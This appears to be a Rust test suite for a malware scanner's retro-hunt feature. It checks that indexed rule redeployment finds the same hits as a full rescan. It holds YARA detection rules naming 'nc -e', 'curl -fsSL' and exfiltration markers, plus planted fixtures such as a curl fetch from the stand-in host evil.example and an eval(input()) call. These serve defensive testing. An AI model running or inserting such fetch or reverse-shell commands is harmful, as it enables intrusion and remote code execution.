//! Differential property suite for retro-hunting: the inverted
//! atom→digest index may change *how much* work a rule deployment does,
//! never *what it finds*. [`ScanHub::retro_hunt`] must produce per-rule
//! hit sets and per-digest verdicts byte-identical to
//! [`ScanHub::retro_rescan`] (the exhaustive every-digest oracle) on
//! randomized corpora and obfuscation mutants — including layer-only
//! atoms, rules with no usable atoms (conservative full candidacy), and
//! dead rules — and each confirmed verdict must equal a fresh full scan
//! of that file restricted to the changed rules.

use std::collections::{HashMap, HashSet};

use corpus::FAMILIES;
use obfuscate::{EvasionProfile, Obfuscator};
use proptest::prelude::*;
use scanhub::{FileEntry, HubConfig, RuleEngine, ScanHub, ScanRequest};
use semgrep_engine::CompiledSemgrepRules;
use yara_engine::CompiledRules;

/// The bundle the hub is *live* with while history accumulates.
const LIVE_YARA: &str = r#"
rule shell { strings: $a = "os.system" condition: $a }
rule beacon { strings: $a = "requests.get" $b = "requests.post" condition: any of them }
rule retuned { strings: $a = "wget http" condition: $a }
"#;

const LIVE_SEMGREP: &str = "rules:
  - id: sys-exec
    languages: [python]
    message: shell execution
    pattern: os.system($CMD)
";

/// The candidate bundle a retro-hunt screens history with. Relative to
/// the live bundle: `shell`/`beacon`/`sys-exec` are unchanged,
/// `retuned` keeps its name but swaps its atom, and the additions cover
/// every candidacy path — plain atom, layer-only atom, regex-only
/// (non-exhaustive → full candidacy), `nocase`, a sub-gram atom
/// (`"MZ"` < 3 bytes → exact 2-gram postings, still gated), a dead
/// rule (zero candidates), a Semgrep atom rule and a Semgrep always-on
/// rule.
const NEXT_YARA: &str = r#"
rule shell { strings: $a = "os.system" condition: $a }
rule beacon { strings: $a = "requests.get" $b = "requests.post" condition: any of them }
rule retuned { strings: $a = "curl -fsSL" condition: $a }
rule dropper { strings: $a = "nc -e" condition: $a }
rule layered_ioc { strings: $a = "secret_exfil_token" condition: $a }
rule regex_only { strings: $re = /tok[0-9]{6}/ condition: $re }
rule caseless { strings: $a = "SubProcess.Popen" nocase condition: $a }
rule magic { strings: $a = "MZ" condition: $a }
rule dead { condition: false }
"#;

const NEXT_SEMGREP: &str = "rules:
  - id: sys-exec
    languages: [python]
    message: shell execution
    pattern: os.system($CMD)
  - id: eval-exec
    languages: [python]
    message: dynamic code
    pattern: eval($X)
  - id: any-call
    languages: [python]
    message: opaque (always-on)
    pattern: $F(secret_marker_zz)
";

fn live_bundle() -> (CompiledRules, CompiledSemgrepRules) {
    (
        yara_engine::compile(LIVE_YARA).expect("live yara"),
        semgrep_engine::compile(LIVE_SEMGREP).expect("live semgrep"),
    )
}

fn next_bundle() -> (CompiledRules, CompiledSemgrepRules) {
    (
        yara_engine::compile(NEXT_YARA).expect("next yara"),
        semgrep_engine::compile(NEXT_SEMGREP).expect("next semgrep"),
    )
}

fn live_hub(artifact_capacity: usize) -> ScanHub {
    let (yara, semgrep) = live_bundle();
    ScanHub::new(
        Some(yara),
        Some(semgrep),
        HubConfig {
            workers: 2,
            cache_capacity: 0,
            artifact_cache_capacity: artifact_capacity,
            max_decode_depth: 2,
            ..HubConfig::default()
        },
    )
}

/// Uploads planted so every changed rule has at least one true hit in
/// history — including one whose IOC exists *only* inside a
/// base64-decoded layer.
fn planted_uploads() -> Vec<ScanRequest> {
    let blob = digest::base64::encode(b"secret_exfil_token: beacon home now");
    vec![
        ScanRequest::from_source(
            "planted_fetch.py",
            "import subprocess\nsubprocess.run('curl -fsSL http://evil.example/x')\n",
        ),
        ScanRequest::from_source("planted_layer.py", format!("blob = '{blob}'\n")),
        ScanRequest::from_source(
            "planted_nocase.py",
            "h = SUBPROCESS.POPEN\nshell = 'nc -e'\n",
        ),
        ScanRequest::from_source("planted_eval.py", "eval(input())\ntoken = 'tok123456'\n"),
        ScanRequest::from_source("planted_marker.py", "f(secret_marker_zz)\n"),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(8))]

    #[test]
    fn index_assisted_hunt_equals_exhaustive_rescan(
        family_idx in 0usize..30,
        variant in 0u64..10,
        seed in any::<u64>(),
        profile_idx in 0usize..3,
        legit_idx in 0usize..40,
    ) {
        let hub = live_hub(4096);
        let family = &FAMILIES[family_idx];
        let malware = corpus::generate_malware_package(family, variant, seed).0;
        let profile = EvasionProfile::standard().swap_remove(profile_idx);
        let mutant = Obfuscator::new(profile, seed).obfuscate_package(&malware);
        let legit = corpus::generate_legit_package(legit_idx, seed);
        for pkg in [&malware, &mutant, &legit] {
            hub.submit(ScanRequest::from_package(pkg)).wait();
        }
        for req in planted_uploads() {
            hub.submit(req).wait();
        }

        let (yara, semgrep) = next_bundle();
        let deployment = hub.deploy_rules(Some(yara), Some(semgrep));
        prop_assert!(
            deployment.delta.changed.iter().all(|c| {
                c.name != "shell" && c.name != "beacon" && c.name != "sys-exec"
            }),
            "unchanged rules must not be re-hunted: {:?}",
            deployment.delta.changed
        );
        prop_assert!(deployment.delta.new_atoms.contains(&"curl -fssl".to_owned()));

        let report = hub.retro_hunt(&deployment).expect("retro index enabled");
        let oracle = hub.retro_rescan(&deployment).expect("oracle");
        prop_assert!(
            report.same_hits(&oracle),
            "index-assisted hunt diverged from the exhaustive rescan:\n{:?}\nvs\n{:?}",
            report.rules,
            oracle.rules
        );
        prop_assert_eq!(report.digests_indexed, oracle.digests_indexed);

        let rule = |name: &str| {
            report
                .rules
                .iter()
                .find(|r| r.rule == name)
                .unwrap_or_else(|| panic!("{name} missing from report"))
        };
        // Every planted IOC is found — the layer-only one through the
        // decoded-layer posting lists.
        prop_assert!(!rule("retuned").digests.is_empty());
        prop_assert!(!rule("dropper").digests.is_empty());
        prop_assert!(!rule("layered_ioc").digests.is_empty(), "layer-only atom lost");
        prop_assert!(!rule("caseless").digests.is_empty());
        prop_assert!(!rule("eval-exec").digests.is_empty());
        // A dead rule is exhaustive with no atoms: zero candidates,
        // zero hits, no fallback.
        prop_assert_eq!(rule("dead").candidates, 0);
        prop_assert!(rule("dead").digests.is_empty());
        // Regex-only atoms cannot be indexed: candidacy falls back to
        // the whole history, never to silence. Sub-gram atoms like
        // `"MZ"` now answer from exact 2-gram postings, so they gate
        // (at minimum, `planted_fetch.py` contains no "mz" byte pair)
        // and no longer count as full-candidacy fallbacks.
        prop_assert_eq!(rule("regex_only").candidates, report.digests_indexed);
        prop_assert!(rule("magic").candidates < report.digests_indexed);
        prop_assert_eq!(report.full_candidacy_rules, 1, "only regex_only falls back now");
        // Exhaustive-atom rules actually prune.
        prop_assert!(rule("layered_ioc").candidates < report.digests_indexed);
    }

    #[test]
    fn eviction_keeps_hunt_and_rescan_in_agreement(
        family_idx in 0usize..30,
        seed in any::<u64>(),
        capacity in 3usize..9,
    ) {
        // A small artifact cache forces evictions mid-history; the
        // retro index must shed exactly the evicted digests and the
        // differential must still hold over the resident survivors.
        let hub = live_hub(capacity);
        let family = &FAMILIES[family_idx];
        let pkg = corpus::generate_malware_package(family, 0, seed).0;
        hub.submit(ScanRequest::from_package(&pkg)).wait();
        for req in planted_uploads() {
            hub.submit(req).wait();
        }
        let digests = hub.stats().retro_index_digests;
        prop_assert!(digests as usize <= capacity, "index outgrew the cache");

        let (yara, semgrep) = next_bundle();
        let deployment = hub.deploy_rules(Some(yara), Some(semgrep));
        let report = hub.retro_hunt(&deployment).expect("retro index enabled");
        let oracle = hub.retro_rescan(&deployment).expect("oracle");
        prop_assert!(report.same_hits(&oracle), "diverged after evictions");
        prop_assert_eq!(report.digests_indexed, digests);
        prop_assert_eq!(oracle.digests_indexed, digests);
    }
}

#[test]
fn short_atom_rules_gate_through_exact_gram_postings() {
    // Regression: atoms shorter than the 3-gram width used to force
    // full candidacy (`candidates_for_atom` returned `None`), so a
    // rule like `"MZ"` rescanned the entire history on every deploy.
    // They now answer from exact 1/2-gram postings — pinned against
    // the exhaustive rescan oracle.
    let hub = live_hub(4096);
    hub.submit(ScanRequest::from_source(
        "dropper.py",
        "stub = 'MZ\\x90' # pe carving\n",
    ))
    .wait();
    hub.submit(ScanRequest::from_source("tilde.py", "home = '~root'\n"))
        .wait();
    for req in planted_uploads() {
        hub.submit(req).wait();
    }

    let short_yara = r#"
rule magic2 { strings: $a = "MZ" condition: $a }
rule magic1 { strings: $a = "~" condition: $a }
"#;
    let yara = yara_engine::compile(short_yara).expect("short-atom yara");
    let deployment = hub.deploy_rules(Some(yara), None);
    let report = hub.retro_hunt(&deployment).expect("retro index enabled");
    let oracle = hub.retro_rescan(&deployment).expect("oracle");
    assert!(
        report.same_hits(&oracle),
        "short-atom hunt diverged from the exhaustive rescan:\n{:?}\nvs\n{:?}",
        report.rules,
        oracle.rules
    );
    // Neither rule fell back to full candidacy, and both actually
    // prune: the planted uploads contain neither "mz" nor "~".
    assert_eq!(report.full_candidacy_rules, 0);
    let rule = |name: &str| {
        report
            .rules
            .iter()
            .find(|r| r.rule == name)
            .unwrap_or_else(|| panic!("{name} missing from report"))
    };
    for name in ["magic2", "magic1"] {
        assert!(
            rule(name).candidates < report.digests_indexed,
            "{name} did not prune: {} candidates of {} digests",
            rule(name).candidates,
            report.digests_indexed
        );
        assert!(
            !rule(name).digests.is_empty(),
            "{name} lost its planted hit"
        );
    }
}

#[test]
fn confirmed_verdicts_match_a_fresh_full_scan_of_each_file() {
    // Second differential axis: for every resident file, the retro
    // verdict (strictly gated, artifact-cached, digest-named) must
    // equal a cold full scan of that single file by a hub running the
    // *new* bundle, restricted to the changed rules.
    let hub = live_hub(4096);
    let pkg = corpus::generate_malware_package(&FAMILIES[0], 0, 42).0;
    let pkg_req = ScanRequest::from_package(&pkg);
    hub.submit(pkg_req.clone()).wait();
    let uploads = planted_uploads();
    for req in &uploads {
        hub.submit(req.clone()).wait();
    }
    let mut by_digest: HashMap<String, FileEntry> = HashMap::new();
    for req in uploads.iter().chain([&pkg_req]) {
        for f in req.files() {
            by_digest.insert(digest::to_hex(&f.digest()), f.clone());
        }
    }

    let (yara, semgrep) = next_bundle();
    let deployment = hub.deploy_rules(Some(yara.clone()), Some(semgrep.clone()));
    let changed: HashSet<(RuleEngine, String)> = deployment
        .delta
        .changed
        .iter()
        .map(|c| (c.engine, c.name.clone()))
        .collect();
    let report = hub.retro_hunt(&deployment).expect("retro index enabled");
    let verdicts: HashMap<&str, _> = report
        .verdicts
        .iter()
        .map(|(digest, v)| (digest.as_str(), v))
        .collect();

    let fresh = ScanHub::new(
        Some(yara),
        Some(semgrep),
        HubConfig {
            workers: 1,
            cache_capacity: 0,
            artifact_cache_capacity: 0,
            max_decode_depth: 2,
            ..HubConfig::default()
        },
    );
    for (hex, file) in &by_digest {
        let full = fresh
            .submit(ScanRequest::from_files(vec![file.clone()]))
            .wait();
        let mut want_yara: Vec<&str> = full
            .yara
            .iter()
            .map(String::as_str)
            .filter(|r| changed.contains(&(RuleEngine::Yara, (*r).to_owned())))
            .collect();
        want_yara.sort_unstable();
        let mut want_semgrep: Vec<&str> = full
            .semgrep
            .iter()
            .map(String::as_str)
            .filter(|r| changed.contains(&(RuleEngine::Semgrep, (*r).to_owned())))
            .collect();
        want_semgrep.sort_unstable();
        // Layer findings compare modulo the `file` field: the retro
        // path names the digest, the live path names the upload entry.
        let layer_key = |l: &scanhub::LayerFinding| {
            (l.rule.clone(), format!("{:?}", l.encoding), l.depth, l.line)
        };
        let mut want_layers: Vec<_> = full
            .layers
            .iter()
            .filter(|l| changed.contains(&(RuleEngine::Yara, l.rule.clone())))
            .map(layer_key)
            .collect();
        want_layers.sort();
        match verdicts.get(hex.as_str()) {
            Some(v) => {
                let got_yara: Vec<&str> = v.yara.iter().map(String::as_str).collect();
                let got_semgrep: Vec<&str> = v.semgrep.iter().map(String::as_str).collect();
                let mut got_layers: Vec<_> = v.layers.iter().map(layer_key).collect();
                got_layers.sort();
                assert_eq!(got_yara, want_yara, "yara diverged on {}", file.name());
                assert_eq!(
                    got_semgrep,
                    want_semgrep,
                    "semgrep diverged on {}",
                    file.name()
                );
                assert_eq!(
                    got_layers,
                    want_layers,
                    "layers diverged on {}",
                    file.name()
                );
            }
            None => {
                assert!(
                    want_yara.is_empty() && want_semgrep.is_empty() && want_layers.is_empty(),
                    "retro-hunt missed hits on {}: yara {:?} semgrep {:?}",
                    file.name(),
                    want_yara,
                    want_semgrep
                );
            }
        }
    }
}
